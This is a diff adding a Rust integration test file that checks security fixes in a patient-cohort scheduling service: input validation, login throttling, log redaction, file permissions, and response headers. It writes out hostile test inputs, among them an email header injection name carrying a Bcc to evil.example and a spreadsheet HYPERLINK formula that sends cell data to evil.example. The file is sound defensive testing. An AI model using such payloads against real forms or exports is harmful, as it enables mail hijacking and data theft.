@@ -1,0 +1,822 @@
+//! Issue 17: the service in a hostile world. Each test proves one defect fixed, as a
+//! user (or an attacker) would notice it.
+
+use crate::helpers::{assert_field_error, error_body, facilitator_body, spawn_app, spawn_app_with};
+use crate::mail::{manual_worker, quick, scenario};
+use chrono::Duration;
+use serde_json::json;
+
+const INJECTED: &str = "Ana\r\nBcc: x@evil.example";
+
+async fn import_csv(
+    app: &crate::helpers::TestApp,
+    token: &str,
+    program: i64,
+    csv: &str,
+) -> reqwest::Response {
+    app.client
+        .post(app.url(&format!("/api/v1/programs/{program}/patients/import")))
+        .bearer_auth(token)
+        .header("content-type", "text/csv")
+        .body(csv.to_string())
+        .send()
+        .await
+        .expect("sent")
+}
+
+#[tokio::test]
+async fn control_characters_in_names_and_addresses_are_refused_with_the_field_named() {
+    let app = spawn_app().await;
+    let (program, lead) = app.program_with_lead().await;
+    let patients = format!("/api/v1/programs/{program}/patients");
+    for (name, email, field) in [
+        (INJECTED, "ana@example.org", "name"),
+        ("Ana\u{0}", "ana@example.org", "name"),
+        ("Ana\u{7f}", "ana@example.org", "name"),
+        ("Ana\tLima", "ana@example.org", "name"),
+        ("Ana", "ana\u{0}@example.org", "email"),
+        ("Ana", "ana@exa\rmple.org", "email"),
+    ] {
+        let response = app
+            .post(
+                &patients,
+                &lead,
+                &json!({"name": name, "email": email, "email_consent": true}),
+            )
+            .await;
+        assert_field_error(response, field).await;
+    }
+    let listed = app.get_json(&patients, &lead).await;
+    assert_eq!(listed["patients"], json!([]), "nothing was created");
+
+    // A good patient cannot be renamed into a bad one either.
+    let id = app
+        .create_patient(&lead, program, "Ana Lima", "ana@example.org")
+        .await;
+    let response = app
+        .patch(
+            &format!("/api/v1/patients/{id}"),
+            &lead,
+            &json!({"name": INJECTED}),
+        )
+        .await;
+    assert_field_error(response, "name").await;
+
+    // CSV: a quoted field may hold a line break; a name never does.
+    let csv = format!(
+        "name,email,timezone,email_consent,dosed_at\n\"{INJECTED}\",bo@example.org,,true,\n"
+    );
+    let response = import_csv(&app, &lead, program, &csv).await;
+    let body = error_body(response, 422).await;
+    let lines = body["error"]["lines"].as_array().expect("lines").clone();
+    assert_eq!(lines.len(), 1, "{body}");
+    assert!(
+        lines[0]["message"]
+            .as_str()
+            .is_some_and(|m| m.starts_with("name:")),
+        "{body}"
+    );
+
+    // Facilitators, programs and users.
+    let mut facilitator = facilitator_body("robin@example.org");
+    facilitator["name"] = json!(INJECTED);
+    let response = app
+        .post("/api/v1/facilitators", &app.admin_token, &facilitator)
+        .await;
+    assert_field_error(response, "name").await;
+    let mut facilitator = facilitator_body("robin\u{1}@example.org");
+    facilitator["name"] = json!("Robin");
+    let response = app
+        .post("/api/v1/facilitators", &app.admin_token, &facilitator)
+        .await;
+    assert_field_error(response, "email").await;
+    let response = app
+        .post(
+            "/api/v1/programs",
+            &app.admin_token,
+            &json!({"name": "Evening\r\ngroup", "site": "Nanaimo",
+                    "timezone": "America/Vancouver", "modality": "ketamine"}),
+        )
+        .await;
+    assert_field_error(response, "name").await;
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": "sam@example.org", "name": "Sam\nLead", "role": "admin",
+                    "password": "a long enough password"}),
+        )
+        .await;
+    assert_field_error(response, "name").await;
+}
+
+fn outbox_rows_to(app: &crate::helpers::TestApp, patient: i64) -> Vec<cohorts::outbox::OutboxRow> {
+    use cohorts::db::schema::outbox;
+    use diesel::prelude::*;
+    outbox::table
+        .filter(outbox::recipient_type.eq("patient"))
+        .filter(outbox::recipient_id.eq(patient))
+        .select(cohorts::outbox::OutboxRow::as_select())
+        .load(&mut *app.conn())
+        .expect("rows")
+}
+
+fn rename_in_database(app: &crate::helpers::TestApp, patient: i64, name: &str) {
+    use cohorts::db::schema::patients;
+    use diesel::prelude::*;
+    diesel::update(patients::table.find(patient))
+        .set(patients::name.eq(name))
+        .execute(&mut *app.conn())
+        .expect("rename");
+}
+
+#[tokio::test]
+async fn a_message_that_cannot_be_built_fails_visibly_and_goes_out_after_the_fix_and_a_retry() {
+    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
+    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
+    let ana = s.members[0].clone();
+    // Data written before validation existed, or by hand.
+    rename_in_database(&app, ana.id, INJECTED);
+    let worker = manual_worker(&app, quick());
+    worker.pass().await.expect("pass");
+    worker
+        .pass()
+        .await
+        .expect("a second pass does not retry it");
+
+    let rows = outbox_rows_to(&app, ana.id);
+    assert_eq!(rows.len(), 1);
+    let row = &rows[0];
+    assert_eq!(
+        row.status.as_str(),
+        "failed",
+        "not left in sending: {row:?}"
+    );
+    assert_eq!(
+        row.attempts, 1,
+        "a message that cannot be built is not retried"
+    );
+    let listed = app.get_json("/api/v1/outbox?status=failed", &s.lead).await;
+    let shown = listed["outbox"][0]["last_error"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert_eq!(listed["outbox"][0]["id"], row.id);
+    assert!(shown.contains("could not be built"), "readable: {shown}");
+    assert!(
+        !shown.contains("Ana") && !shown.contains("evil"),
+        "no patient data: {shown}"
+    );
+    assert!(!shown.contains(&ana.email), "no patient data: {shown}");
+    assert!(
+        !app.mail
+            .messages()
+            .iter()
+            .any(|m| m.to.contains(&ana.email)),
+        "nothing was sent to her"
+    );
+
+    // The lead fixes the name and retries: the welcome goes out, once.
+    rename_in_database(&app, ana.id, "Ana Quill");
+    let response = app
+        .post(
+            &format!("/api/v1/outbox/{}/retry", row.id),
+            &s.lead,
+            &json!({}),
+        )
+        .await;
+    assert_eq!(response.status(), 200);
+    worker.pass().await.expect("pass");
+    let to_ana: Vec<_> = app
+        .mail
+        .messages()
+        .into_iter()
+        .filter(|m| m.to.contains(&ana.email))
+        .collect();
+    assert_eq!(to_ana.len(), 1);
+    assert_eq!(crate::mail::seen(&to_ana[0]).kind, "welcome");
+    assert_eq!(outbox_rows_to(&app, ana.id)[0].status.as_str(), "sent");
+}
+
+/// Log lines written on this thread while `work` runs (the test runtime is
+/// single-threaded, so the worker's tasks log here too).
+#[derive(Clone, Default)]
+struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().expect("log lock").extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+impl Captured {
+    fn text(&self) -> String {
+        String::from_utf8_lossy(&self.0.lock().expect("log lock")).to_string()
+    }
+}
+
+#[tokio::test]
+async fn an_smtp_refusal_quoting_the_address_is_stored_logged_and_shown_without_it() {
+    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
+    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
+    let ana = s.members[0].clone();
+    let logs = Captured::default();
+    let writer = logs.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_writer(move || writer.clone())
+        .with_max_level(tracing::Level::DEBUG)
+        .finish();
+    let _guard = tracing::subscriber::set_default(subscriber);
+    // Every recipient of this pass is refused: her welcome and the team's assignments.
+    app.mail.refuse_recipients(1000);
+    let worker = manual_worker(
+        &app,
+        cohorts::worker::WorkerConfig {
+            max_attempts: 1,
+            ..quick()
+        },
+    );
+    worker.pass().await.expect("pass");
+
+    let listed = app.get_json("/api/v1/outbox?status=failed", &s.lead).await;
+    let rows = listed["outbox"].as_array().expect("rows").clone();
+    assert_eq!(rows.len(), 3, "{listed}");
+    let welcome = rows
+        .iter()
+        .find(|r| r["kind"] == "welcome")
+        .expect("her welcome failed");
+    let shown = welcome["last_error"]
+        .as_str()
+        .expect("a reason")
+        .to_string();
+    assert!(
+        shown.contains("550"),
+        "the server's answer is kept: {shown}"
+    );
+    assert!(shown.contains("Recipient address rejected"), "{shown}");
+    assert!(
+        !shown.contains(&ana.email),
+        "address in last_error: {shown}"
+    );
+    assert!(!shown.contains('@'), "no address at all: {shown}");
+    let dashboard =
+        cohorts::pages::staff::failed_mail::failed_mail(&mut app.conn(), s.program).expect("rows");
+    assert_eq!(dashboard.len(), 3);
+    assert!(dashboard.iter().all(|row| !row.last_error.contains('@')));
+    let logged = logs.text();
+    assert!(
+        logged.contains("mail attempt failed"),
+        "the failure is logged: {logged}"
+    );
+    assert!(!logged.contains(&ana.email), "address in the log: {logged}");
+}
+
+async fn login_as(
+    client: &reqwest::Client,
+    app: &crate::helpers::TestApp,
+    email: &str,
+    password: &str,
+) -> reqwest::Response {
+    client
+        .post(app.url("/api/v1/auth/login"))
+        .json(&json!({"email": email, "password": password}))
+        .send()
+        .await
+        .expect("sent")
+}
+
+#[tokio::test]
+async fn parallel_wrong_passwords_are_checked_at_most_five_times_before_the_lock() {
+    // The account's own lock, alone: no limit per address.
+    let app = spawn_app_with(|s| s.login_attempts_per_address = Some(0)).await;
+    let program = app.create_program("Evening group").await;
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": "lead@example.org", "name": "Lee Lead", "role": "program_lead",
+                    "password": "the right password", "program_ids": [program]}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    let mut attempts = tokio::task::JoinSet::new();
+    for n in 0..40 {
+        let client = app.client.clone();
+        let url = app.url("/api/v1/auth/login");
+        attempts.spawn(async move {
+            client
+                .post(url)
+                .json(&json!({"email": "lead@example.org", "password": format!("guess {n}")}))
+                .send()
+                .await
+                .expect("sent")
+                .status()
+                .as_u16()
+        });
+    }
+    let mut statuses = Vec::new();
+    while let Some(status) = attempts.join_next().await {
+        statuses.push(status.expect("attempt"));
+    }
+    let checked = statuses.iter().filter(|s| **s == 401).count();
+    let refused = statuses.iter().filter(|s| **s == 429).count();
+    assert_eq!(
+        checked, 5,
+        "passwords checked before the lock: {statuses:?}"
+    );
+    assert_eq!(refused, 35, "{statuses:?}");
+    // Locked: even the right password waits.
+    let locked = login_as(&app.client, &app, "lead@example.org", "the right password").await;
+    assert_eq!(locked.status(), 429);
+    assert!(locked.headers().get("retry-after").is_some());
+}
+
+#[tokio::test]
+async fn bad_logins_for_unknown_addresses_do_not_wait_for_the_write_lock() {
+    if std::env::var("TEST_DATABASE_URL").is_ok_and(|url| !url.is_empty()) {
+        return; // SQLite's single writer is what a login flood used to hold up.
+    }
+    let app = spawn_app().await;
+    use diesel::connection::SimpleConnection;
+    // Another writer holds SQLite's write lock (a long import, a formation commit).
+    let mut writer = app.conn();
+    writer.batch_execute("BEGIN IMMEDIATE").expect("write lock");
+    let started = std::time::Instant::now();
+    let response = login_as(&app.client, &app, "nobody@example.org", "a guess").await;
+    let waited = started.elapsed();
+    writer.batch_execute("ROLLBACK").expect("released");
+    assert_eq!(
+        response.status(),
+        401,
+        "refused at once, not a 500 after the busy timeout"
+    );
+    assert!(
+        waited < std::time::Duration::from_secs(4),
+        "the password check waited for the write lock: {waited:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_flood_of_bad_logins_from_one_address_is_throttled_and_another_address_still_signs_in() {
+    let app = spawn_app().await;
+    let mut statuses = Vec::new();
+    for n in 0..25 {
+        let email = format!("spray{n}@example.org");
+        statuses.push(
+            login_as(&app.client, &app, &email, "Winter2025!")
+                .await
+                .status()
+                .as_u16(),
+        );
+    }
+    assert_eq!(&statuses[..20], &[401; 20][..], "{statuses:?}");
+    assert_eq!(&statuses[20..], &[429; 5][..], "{statuses:?}");
+    let throttled = login_as(&app.client, &app, "spray0@example.org", "again").await;
+    let retry_after: i64 = throttled
+        .headers()
+        .get("retry-after")
+        .and_then(|v| v.to_str().ok())
+        .and_then(|v| v.parse().ok())
+        .expect("Retry-After header");
+    assert!(retry_after >= 1, "{retry_after}");
+    error_body(throttled, 429).await;
+
+    // A colleague on another address is not locked out by the flood.
+    let elsewhere = reqwest::Client::builder()
+        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
+        .build()
+        .expect("client");
+    let (email, password) = ("lead@example.org", "the right password");
+    let program = app.create_program("Evening group").await;
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": email, "name": "Lee Lead", "role": "program_lead",
+                    "password": password, "program_ids": [program]}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    assert_eq!(
+        login_as(&elsewhere, &app, email, password).await.status(),
+        200
+    );
+}
+
+/// Signs in on the staff pages; returns the `Cookie` header value of the session.
+async fn staff_session(app: &crate::helpers::TestApp, email: &str, password: &str) -> String {
+    let form = app
+        .client
+        .get(app.url("/staff/login"))
+        .send()
+        .await
+        .expect("login form");
+    let login_cookie = form
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("cohorts_login="))
+        .and_then(|v| v.split(';').next())
+        .expect("login cookie")
+        .to_string();
+    let html = form.text().await.expect("html");
+    let csrf = html
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .expect("csrf field")
+        .to_string();
+    let signed_in = app
+        .client
+        .post(app.url("/staff/login"))
+        .header("cookie", login_cookie)
+        .form(&[
+            ("email", email),
+            ("password", password),
+            ("csrf", &csrf),
+            ("next", "/staff"),
+        ])
+        .send()
+        .await
+        .expect("sign in");
+    assert_eq!(signed_in.status(), 303, "staff sign-in");
+    signed_in
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("cohorts_session="))
+        .and_then(|v| v.split(';').next())
+        .expect("session cookie")
+        .to_string()
+}
+
+#[tokio::test]
+async fn report_csv_cells_never_start_a_formula_and_are_not_cached() {
+    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
+        "+1 Plus",
+        "-2 Minus",
+        "@SUM(A1)",
+        "Plain Name",
+    ];
+    let placeholders: Vec<String> = (0..names.len()).map(|n| format!("Member {n}")).collect();
+    let people: Vec<(&str, Option<&str>, bool)> = placeholders
+        .iter()
+        .map(|n| (n.as_str(), None, true))
+        .collect();
+    let s = scenario(&app, Duration::days(3), &people).await;
+    for (member, name) in s.members.iter().zip(names) {
+        let response = app
+            .patch(
+                &format!("/api/v1/patients/{}", member.id),
+                &s.lead,
+                &json!({"name": name}),
+            )
+            .await;
+        assert_eq!(
+            response.status(),
+            200,
+            "a name may start with any printable character"
+        );
+    }
+    let api = app
+        .get(
+            &format!(
+                "/api/v1/programs/{}/attendance-report?format=csv",
+                s.program
+            ),
+            &s.lead,
+        )
+        .await;
+    assert_eq!(api.status(), 200);
+    let api_cache = api
+        .headers()
+        .get("cache-control")
+        .map(|v| v.to_str().unwrap_or_default().to_string());
+    let api_csv = api.text().await.expect("csv");
+
+    let lead_email = "sheet.lead@example.org";
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": lead_email, "name": "Sheet Lead", "role": "program_lead",
+                    "password": "a long enough password", "program_ids": [s.program]}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    let cookie = staff_session(&app, lead_email, "a long enough password").await;
+    let page = app
+        .client
+        .get(app.url(&format!("/staff/programs/{}/report.csv", s.program)))
+        .header("cookie", cookie)
+        .send()
+        .await
+        .expect("staff csv");
+    assert_eq!(page.status(), 200);
+    let page_cache = page
+        .headers()
+        .get("cache-control")
+        .map(|v| v.to_str().unwrap_or_default().to_string());
+    let page_csv = page.text().await.expect("csv");
+
+    for (which, csv, cache) in [
+        ("API", &api_csv, api_cache),
+        ("staff", &page_csv, page_cache),
+    ] {
+        assert_eq!(cache.as_deref(), Some("no-store"), "{which} CSV cached");
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header = reader.headers().expect("header").clone();
+        let name_at = header
+            .iter()
+            .position(|h| h == "name")
+            .expect("name column");
+        let held_at = header
+            .iter()
+            .position(|h| h == "held")
+            .expect("held column");
+        let mut seen = Vec::new();
+        for record in reader.records() {
+            let record = record.expect("row");
+            let name = record.get(name_at).expect("name").to_string();
+            assert!(
+                !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{which}: a formula cell {name:?}"
+            );
+            let held = record.get(held_at).expect("held");
+            assert!(
+                held.parse::<i64>().is_ok(),
+                "numbers stay numbers: {held:?}"
+            );
+            seen.push(name);
+        }
+        seen.sort();
+        let mut expected: Vec<String> = names
+            .iter()
+            .map(|n| {
+                if n.starts_with(['=', '+', '-', '@']) {
+                    format!("'{n}")
+                } else {
+                    n.to_string()
+                }
+            })
+            .collect();
+        expected.sort();
+        assert_eq!(seen, expected, "{which}: every name, readable");
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn the_database_its_wal_and_the_eml_outbox_are_private_to_the_service_user() {
+    use std::os::unix::fs::PermissionsExt;
+    if std::env::var("TEST_DATABASE_URL").is_ok_and(|url| !url.is_empty()) {
+        return; // Files of SQLite and of the file transport.
+    }
+    let app = spawn_app_with(|s| {
+        s.database_url = format!("sqlite://{}", s.data_dir.join("cohorts.db").display());
+        s.smtp_url = None;
+    })
+    .await;
+    let _s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
+    let data = app.settings.data_dir.clone();
+    let outbox = data.join("outbox");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    let emls = loop {
+        let found: Vec<std::path::PathBuf> = std::fs::read_dir(&outbox)
+            .map(|entries| {
+                entries
+                    .filter_map(|e| e.ok().map(|e| e.path()))
+                    .filter(|p| p.extension().is_some_and(|x| x == "eml"))
+                    .collect()
+            })
+            .unwrap_or_default();
+        if found.len() >= 3 || std::time::Instant::now() > deadline {
+            break found;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    };
+    assert_eq!(emls.len(), 3, "her welcome and the team's two assignments");
+    let mode = |path: &std::path::Path| {
+        std::fs::metadata(path)
+            .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+            .permissions()
+            .mode()
+            & 0o777
+    };
+    assert_eq!(mode(&data), 0o700, "data directory");
+    assert_eq!(mode(&outbox), 0o700, "outbox directory");
+    for eml in &emls {
+        assert_eq!(mode(eml), 0o600, "{}", eml.display());
+    }
+    for file in ["cohorts.db", "cohorts.db-wal", "cohorts.db-shm"] {
+        assert_eq!(mode(&data.join(file)), 0o600, "{file}");
+    }
+}
+
+fn assert_patient_page_headers(response: &reqwest::Response, what: &str) {
+    let header = |name: &str| {
+        response
+            .headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(str::to_string)
+            .unwrap_or_else(|| panic!("{what}: no {name}"))
+    };
+    let csp = header("content-security-policy");
+    assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
+    assert!(csp.contains("default-src 'none'"), "{what}: {csp}");
+    assert!(
+        !csp.contains("script-src"),
+        "{what}: no script may run: {csp}"
+    );
+    assert_eq!(header("referrer-policy"), "no-referrer", "{what}");
+    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
+}
+
+#[tokio::test]
+async fn patient_pages_cannot_be_framed_leak_no_referrer_and_are_not_sniffed() {
+    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
+    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
+    manual_worker(&app, quick()).pass().await.expect("pass");
+    let welcome = crate::mail::of_kind(&app.mail, "welcome")
+        .into_iter()
+        .next()
+        .expect("her welcome");
+    assert_eq!(welcome.envelope_to, vec![s.members[0].email.clone()]);
+    let path = welcome.link_path();
+    let page = app.client.get(app.url(&path)).send().await.expect("page");
+    assert_eq!(page.status(), 200);
+    assert_patient_page_headers(&page, "session page");
+    let answered = app
+        .client
+        .post(app.url(&format!("{path}/rsvp")))
+        .header("Content-Type", "application/x-www-form-urlencoded")
+        .body("response=yes")
+        .send()
+        .await
+        .expect("rsvp");
+    assert_eq!(answered.status(), 200);
+    assert_patient_page_headers(&answered, "rsvp answer");
+    let unsubscribe_path = welcome
+        .list_unsubscribe
+        .as_deref()
+        .and_then(|v| v.split("/p/").nth(1))
+        .map(|rest| format!("/p/{}", rest.trim_end_matches('>')))
+        .expect("unsubscribe link");
+    let form = app
+        .client
+        .get(app.url(&unsubscribe_path))
+        .send()
+        .await
+        .expect("form");
+    assert_eq!(form.status(), 200);
+    assert_patient_page_headers(&form, "unsubscribe form");
+    let bad = app
+        .client
+        .get(app.url("/p/not-a-real-link"))
+        .send()
+        .await
+        .expect("bad");
+    assert!(bad.status().is_client_error());
+    assert_patient_page_headers(&bad, "a bad link");
+    let nowhere = app
+        .client
+        .get(app.url("/p/a/b/c"))
+        .send()
+        .await
+        .expect("nowhere");
+    assert_eq!(nowhere.status(), 404);
+}
+
+#[tokio::test]
+async fn with_a_metrics_token_set_metrics_need_it_even_from_loopback() {
+    let token = "a-metrics-token-for-prometheus-0123456789";
+    let app = spawn_app_with(|s| s.metrics_token = Some(token.into())).await;
+    let scrape = |authorization: Option<String>| {
+        let mut request = app.client.get(app.url("/metrics"));
+        if let Some(value) = authorization {
+            request = request.header("authorization", value);
+        }
+        request.send()
+    };
+    let anonymous = scrape(None).await.expect("sent");
+    error_body(anonymous, 401).await;
+    let wrong = scrape(Some("Bearer not-the-token".into()))
+        .await
+        .expect("sent");
+    error_body(wrong, 401).await;
+    // A user's API token is not the metrics token.
+    let user = scrape(Some(format!("Bearer {}", app.admin_token)))
+        .await
+        .expect("sent");
+    error_body(user, 401).await;
+    let right = scrape(Some(format!("Bearer {token}"))).await.expect("sent");
+    assert_eq!(right.status(), 200);
+    let text = right.text().await.expect("text");
+    assert!(text.contains("cohorts_outbox_depth"), "{text}");
+}
+
+#[tokio::test]
+async fn bad_input_is_a_clear_4xx_never_a_500() {
+    let app = spawn_app().await;
+    let (program, lead) = app.program_with_lead().await;
+    // A NUL byte (PostgreSQL refuses it in text) in a name, an address, a query.
+    let response = app
+        .post(
+            &format!("/api/v1/programs/{program}/patients"),
+            &lead,
+            &json!({"name": "Ana\u{0}Lima", "email": "ana@example.org", "email_consent": true}),
+        )
+        .await;
+    assert_field_error(response, "name").await;
+    let response = app.get("/api/v1/audit?entity=%00&id=1", &lead).await;
+    assert_field_error(response, "entity").await;
+    let response = app.get("/api/v1/outbox?status=sent%00", &lead).await;
+    assert_field_error(response, "status").await;
+    let login = login_as(&app.client, &app, "admin\u{0}@localhost", "a guess").await;
+    assert_eq!(login.status(), 401);
+
+    // 40,000 member ids: more than a cohort can ever hold, refused before any query.
+    let members: Vec<i64> = (1..=40_000).collect();
+    let response = app
+        .post(
+            "/api/v1/cohorts",
+            &lead,
+            &json!({"program_id": program, "members": members,
+                    "first_session_at": "2030-01-08T18:00:00-08:00",
+                    "override_reason": "a big group"}),
+        )
+        .await;
+    let body = assert_field_error(response, "members").await;
+    assert!(
+        body["error"]["fields"]["members"]
+            .as_str()
+            .is_some_and(|m| m.contains("40")),
+        "{body}"
+    );
+
+    // A control character in the sign-in form's `next`: signed in, sent to /staff.
+    let form = app
+        .client
+        .get(app.url("/staff/login"))
+        .send()
+        .await
+        .expect("form");
+    let login_cookie = form
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("cohorts_login="))
+        .and_then(|v| v.split(';').next())
+        .expect("login cookie")
+        .to_string();
+    let html = form.text().await.expect("html");
+    let csrf = html
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .expect("csrf")
+        .to_string();
+    let email = "next.lead@example.org";
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": email, "name": "Next Lead", "role": "program_lead",
+                    "password": "a long enough password", "program_ids": [program]}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    for next in ["/staff\u{1}x", "/staff/\u{0}", "/staff\u{7f}"] {
+        let signed_in = app
+            .client
+            .post(app.url("/staff/login"))
+            .header("cookie", login_cookie.clone())
+            .form(&[
+                ("email", email),
+                ("password", "a long enough password"),
+                ("csrf", &csrf),
+                ("next", next),
+            ])
+            .send()
+            .await
+            .expect("sign in");
+        assert_eq!(signed_in.status(), 303, "next = {next:?}");
+        assert_eq!(
+            signed_in
+                .headers()
+                .get("location")
+                .and_then(|v| v.to_str().ok()),
+            Some("/staff")
+        );
+    }
+}
